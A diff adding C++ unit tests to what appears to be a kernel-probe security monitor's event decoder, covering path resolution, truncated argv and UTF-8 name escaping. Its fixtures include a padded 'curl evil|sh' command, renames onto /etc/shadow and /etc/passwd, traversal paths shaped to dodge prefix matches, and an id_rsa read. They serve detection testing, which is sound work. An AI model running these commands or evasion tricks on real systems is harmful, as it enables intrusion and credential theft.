@@ -2,6 +2,8 @@
 
 #include <gtest/gtest.h>
 
+#include <map>
+
 #include "util/records.h"
 #include "util/test_util.h"
 
@@ -247,6 +249,10 @@ TEST(Decoder, FileRecordPathsAreResolved) {
   f.ncomps = 2;
   std::strcpy(f.comps[0], "cron.d");
   std::strcpy(f.comps[1], "etc");
+  f.new_base = VIGIL_BASE_DIR;  // the target has its own base (here the same directory)
+  f.new_ncomps = 2;
+  std::strcpy(f.new_comps[0], "cron.d");
+  std::strcpy(f.new_comps[1], "etc");
   ASSERT_OK(d.decode(bytes_of(f), e));
   EXPECT_EQ(std::get<FileData>(e.data).path, "/etc/cron.d/a");
   EXPECT_EQ(std::get<FileData>(e.data).new_path, "/etc/cron.d/b");
@@ -262,6 +268,195 @@ TEST(Decoder, FileRecordPathsAreResolved) {
   f.base = 7;
   EXPECT_FALSE(d.decode(bytes_of(f), e));
   EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kBadLength)], 2U);
+}
+
+TEST(Decoder, FileRecordSidesResolveAgainstTheirOwnBase) {
+  Decoder d;
+  Event e;
+  vigil_file f{};
+  test::fill_hdr(f.hdr, VIGIL_EV_FILE, sizeof(f), 30);
+  // mv /tmp/x shadow, run in /etc: the source is absolute, the target relative
+  // to the cwd (its own base), not to the source's.
+  f.op = VIGIL_FILE_RENAME;
+  f.base = VIGIL_BASE_ABSOLUTE;
+  std::strcpy(f.path, "/tmp/x");
+  f.new_base = VIGIL_BASE_DIR;
+  std::strcpy(f.new_path, "shadow");
+  std::strcpy(f.new_comps[0], "etc");
+  f.new_ncomps = 1;
+  ASSERT_OK(d.decode(bytes_of(f), e));
+  EXPECT_EQ(std::get<FileData>(e.data).path, "/tmp/x");
+  EXPECT_EQ(std::get<FileData>(e.data).new_path, "/etc/shadow");
+
+  // Lexical forms that dodge a prefix match are normalised; arg_path keeps the original.
+  std::strcpy(f.path, "//tmp/./a/../x");
+  std::strcpy(f.new_path, "../etc/./passwd");
+  std::strcpy(f.new_comps[0], "tmp");
+  ASSERT_OK(d.decode(bytes_of(f), e));
+  EXPECT_EQ(std::get<FileData>(e.data).path, "/tmp/x");
+  EXPECT_EQ(std::get<FileData>(e.data).arg_path, "//tmp/./a/../x");
+  EXPECT_EQ(std::get<FileData>(e.data).new_path, "/etc/passwd");
+
+  // A symlink's target is a string: kept as passed, even when relative.
+  f.op = VIGIL_FILE_SYMLINK;
+  f.base = VIGIL_BASE_VERBATIM;
+  std::strcpy(f.path, "../../etc/shadow");
+  std::strcpy(f.new_path, "/etc/cron.d/link");
+  f.new_base = VIGIL_BASE_ABSOLUTE;
+  ASSERT_OK(d.decode(bytes_of(f), e));
+  EXPECT_EQ(std::get<FileData>(e.data).path, "../../etc/shadow");
+  EXPECT_EQ(std::get<FileData>(e.data).new_path, "/etc/cron.d/link");
+
+  // linkat(fd, "", ..., AT_EMPTY_PATH): the file is the fd's (an O_TMPFILE).
+  f.op = VIGIL_FILE_LINK;
+  f.base = VIGIL_BASE_FILE;
+  f.path[0] = '\0';
+  std::strcpy(f.comps[0], "#1234");
+  std::strcpy(f.comps[1], "etc");
+  f.ncomps = 2;
+  ASSERT_OK(d.decode(bytes_of(f), e));
+  EXPECT_EQ(std::get<FileData>(e.data).path, "/etc/#1234");
+
+  f.new_base = VIGIL_BASE_VERBATIM + 1;
+  EXPECT_FALSE(d.decode(bytes_of(f), e));
+  f.new_base = VIGIL_BASE_DIR;
+  f.new_ncomps = VIGIL_FILE_COMPS + 2;
+  EXPECT_FALSE(d.decode(bytes_of(f), e));
+  EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kBadLength)], 2U);
+}
+
+TEST(Decoder, NamesCutByTheKernelAreCompletedFromTheCallersPath) {
+  Decoder d;
+  Event e;
+  vigil_file f{};
+  test::fill_hdr(f.hdr, VIGIL_EV_FILE, sizeof(f), 30);
+  f.op = VIGIL_FILE_CREATE;
+  f.base = VIGIL_BASE_FILE;
+  const std::string long_name = "a-configuration-file-with-a-long-name.conf";
+  std::strncpy(f.comps[0], long_name.c_str(), VIGIL_FILE_COMP_LEN - 1);  // as the probe cuts it
+  std::strcpy(f.comps[1], "cron.d");
+  std::strcpy(f.comps[2], "etc");
+  f.ncomps = 3;
+  std::strcpy(f.path, long_name.c_str());  // openat(dirfd of /etc/cron.d, long_name)
+  ASSERT_OK(d.decode(bytes_of(f), e));
+  EXPECT_EQ(std::get<FileData>(e.data).path, "/etc/cron.d/" + long_name);
+  // A caller's path that names another file (through a symlink) does not complete it.
+  std::strcpy(f.path, ("/tmp/" + long_name.substr(0, 40)).c_str());
+  ASSERT_OK(d.decode(bytes_of(f), e));
+  EXPECT_EQ(std::get<FileData>(e.data).path,
+            "/etc/cron.d/" + long_name.substr(0, VIGIL_FILE_COMP_LEN - 1));
+}
+
+TEST(Decoder, PaddedArgvKeepsItsHeadAndItsTail) {
+  auto rec = test::make_exec(1, "/bin/sh", {});
+  // What the probe captures for `sh -c <pad...> ; curl evil | sh`: the first
+  // VIGIL_ARGS_HEAD bytes, then argv's last bytes at args_tail.
+  std::string head = std::string("sh") + '\0' + "-c" + '\0';
+  head.append(VIGIL_ARGS_HEAD - head.size(), 'p');
+  std::string tail(VIGIL_ARGS_LEN - VIGIL_ARGS_HEAD, 'p');
+  const std::string end = std::string(";curl evil|sh") + '\0' + "telltale" + '\0';
+  tail.replace(tail.size() - end.size(), end.size(), end);
+  std::memcpy(rec.args, head.data(), head.size());
+  std::memcpy(rec.args + VIGIL_ARGS_HEAD, tail.data(), tail.size());
+  rec.args_len = VIGIL_ARGS_LEN;
+  rec.args_tail = VIGIL_ARGS_HEAD;
+  rec.argc = 3;
+  rec.flags = VIGIL_EXEC_ARGS_TRUNC;
+  Decoder d;
+  Event e;
+  ASSERT_OK(d.decode(bytes_of(rec), e));
+  ASSERT_EQ(e.args.size(), 5U);
+  EXPECT_EQ(e.args[0], "sh");
+  EXPECT_EQ(e.args[1], "-c");
+  EXPECT_EQ(e.args[2], std::string(VIGIL_ARGS_HEAD - 6, 'p')) << "the head's cut argument";
+  EXPECT_TRUE(e.args[3].ends_with(";curl evil|sh")) << "the tail's cut argument";
+  EXPECT_EQ(e.args[4], "telltale");
+  const auto& x = std::get<ExecData>(e.data);
+  EXPECT_TRUE(x.args_truncated);
+  EXPECT_EQ(x.argc, 3U) << "the kernel's count, not what was captured";
+
+  rec.args_tail = VIGIL_ARGS_LEN + 1;  // beyond args_len
+  EXPECT_FALSE(d.decode(bytes_of(rec), e));
+  EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kBadLength)], 1U);
+}
+
+TEST(EscapeName, ValidUtf8IsKeptAndOtherBytesBecomeHex) {
+  EXPECT_FALSE(needs_escape("/usr/bin/caf\xC3\xA9"));  // "café": valid UTF-8
+  EXPECT_EQ(escape_name("/usr/bin/caf\xC3\xA9"), "/usr/bin/caf\xC3\xA9");
+  EXPECT_EQ(escape_name("C:\\dir\\n"), "C:\\dir\\n") << "a backslash alone is kept";
+  EXPECT_EQ(escape_name("/tmp/a\xFF"
+                        "b"),
+            "/tmp/a\\xFFb");
+  // Once a string is escaped, its backslashes are doubled: no confusion with \xHH.
+  EXPECT_EQ(escape_name("\xFF\\"), "\\xFF\\\\");
+  // A literal "\x41" is escaped too, else it would read as the byte 0x41.
+  EXPECT_EQ(escape_name("printf '\\x41'"), "printf '\\\\x41'");
+  // Invalid sequences: overlong, surrogate, truncated, beyond U+10FFFF.
+  EXPECT_EQ(escape_name("\xC0\xAF"), "\\xC0\\xAF");
+  EXPECT_EQ(escape_name("\xED\xA0\x80"), "\\xED\\xA0\\x80");
+  EXPECT_EQ(escape_name("ab\xE2\x82"), "ab\\xE2\\x82");
+  EXPECT_EQ(escape_name("\xF4\x90\x80\x80"), "\\xF4\\x90\\x80\\x80");
+  EXPECT_EQ(escape_name("\xE2\x82\xAC\xFF"), "\xE2\x82\xAC\\xFF") << "valid parts stay";
+}
+
+TEST(EscapeName, IsLosslessAndAlwaysValidUtf8) {
+  // Every string of up to three bytes over an alphabet that covers the corner
+  // cases round-trips, and no two inputs share an escaped form.
+  const std::string alphabet = {'a',
+                                '\\',
+                                'x',
+                                'F',
+                                static_cast<char>(0xFF),
+                                static_cast<char>(0xC3),
+                                static_cast<char>(0xA9)};
+  std::map<std::string, std::string> seen;
+  std::vector<std::string> inputs = {""};
+  for (int len = 0; len < 3; ++len) {
+    const auto n = inputs.size();
+    for (std::size_t i = 0; i < n; ++i) {
+      for (char c : alphabet) inputs.push_back(inputs[i] + c);
+    }
+  }
+  for (const auto& raw : inputs) {
+    const std::string esc = escape_name(raw);
+    // Valid UTF-8: no 0xFF byte, and 0xC3 0xA9 ("é") only as a pair.
+    for (std::size_t i = 0; i < esc.size(); ++i) {
+      const auto c = static_cast<unsigned char>(esc[i]);
+      EXPECT_NE(c, 0xFF) << esc;
+      if (c == 0xC3) EXPECT_TRUE(i + 1 < esc.size() && esc[i + 1] == '\xA9') << esc;
+      if (c == 0xA9) EXPECT_TRUE(i > 0 && esc[i - 1] == '\xC3') << esc;
+    }
+    const auto back = unescape_name(esc);
+    ASSERT_TRUE(back.has_value()) << esc;
+    EXPECT_EQ(*back, raw);
+    const auto [it, fresh] = seen.emplace(esc, raw);
+    EXPECT_EQ(it->second, raw) << "'" << esc << "' from two inputs";
+  }
+}
+
+TEST(Decoder, NonUtf8NamesAreEscapedOnceWhereEventsAreBuilt) {
+  auto rec = test::make_exec(1, "/tmp/ev\xFFil", {"/tmp/ev\xFFil", "--x=\xFE"});
+  std::strcpy(rec.hdr.comm, "ev\xFFil");
+  Decoder d;
+  Event e;
+  ASSERT_OK(d.decode(bytes_of(rec), e));
+  EXPECT_EQ(e.exe, "/tmp/ev\\xFFil");
+  EXPECT_EQ(std::get<ExecData>(e.data).filename, "/tmp/ev\\xFFil");
+  EXPECT_EQ(e.comm, "ev\\xFFil");
+  EXPECT_EQ(e.args, (std::vector<std::string>{"/tmp/ev\\xFFil", "--x=\\xFE"}));
+
+  vigil_file f{};
+  test::fill_hdr(f.hdr, VIGIL_EV_FILE, sizeof(f), 30);
+  f.op = VIGIL_FILE_READ_SENSITIVE;
+  f.base = VIGIL_BASE_FILE;
+  std::strcpy(f.path, "k\xFF/id_rsa");
+  std::strcpy(f.comps[0], "id_rsa");
+  std::strcpy(f.comps[1], "k\xFF");
+  std::strcpy(f.comps[2], "tmp");
+  f.ncomps = 3;
+  ASSERT_OK(d.decode(bytes_of(f), e));
+  EXPECT_EQ(std::get<FileData>(e.data).path, "/tmp/k\\xFF/id_rsa");
+  EXPECT_EQ(std::get<FileData>(e.data).arg_path, "k\\xFF/id_rsa");
 }
 
 TEST(Decoder, SocketRecordsBecomeOneTypePerOperation) {
